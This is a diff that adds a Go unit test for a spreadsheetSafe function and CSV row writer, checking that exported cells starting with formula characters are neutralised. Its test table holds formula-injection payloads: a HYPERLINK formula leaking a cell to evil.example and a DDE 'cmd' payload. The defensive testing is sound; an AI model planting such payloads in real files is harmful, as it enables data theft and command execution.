@@ -1,7 +1,9 @@
 package server
 
 import (
+	"bufio"
 	"slices"
+	"strings"
 	"testing"
 
 	"github.com/idgraph/cdp/graph"
@@ -28,6 +30,42 @@ func TestJoinValues(t *testing.T) {
 }
 
 // Parameters: defaults, every type the rules list, and nothing else.
+// A CSV cell that a spreadsheet would run as a formula starts with an
+// apostrophe; phones and other plain values are kept as they are.
+func TestSpreadsheetSafe(t *testing.T) {
+	for in, want := range map[string]string{
+		`=HYPERLINK("https://evil.example/?d="&B2,"Open")`: `'=HYPERLINK("https://evil.example/?d="&B2,"Open")`,
+		"@SUM(A1)":               "'@SUM(A1)",
+		"+SUM(A1)":               "'+SUM(A1)",
+		"-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
+		"\tx":                    "'\tx",
+		"\rx":                    "'\rx",
+		"+":                      "'+",
+		"+14155550100":           "+14155550100",
+		"-12.5":                  "-12.5",
+		"ann@example.com":        "ann@example.com",
+		"u-1":                    "u-1",
+		"":                       "",
+	} {
+		if got := spreadsheetSafe(in); got != want {
+			t.Errorf("spreadsheetSafe(%q) = %q, want %q", in, got, want)
+		}
+	}
+	var b strings.Builder
+	bw := bufio.NewWriter(&b)
+	c := newCSVRows(bw, []string{"user_id", "phone"})
+	if err := c.member("p_1", [][]string{{"=1+1"}, {"+14155550100"}}); err != nil {
+		t.Fatal(err)
+	}
+	if err := c.flush(); err != nil {
+		t.Fatal(err)
+	}
+	bw.Flush()
+	if b.String() != "p_1,'=1+1,+14155550100\n" {
+		t.Fatalf("CSV row %q", b.String())
+	}
+}
+
 func TestParseExportParams(t *testing.T) {
 	rules := graph.DefaultRules()
 	p, err := parseExportParams(map[string][]string{}, rules)
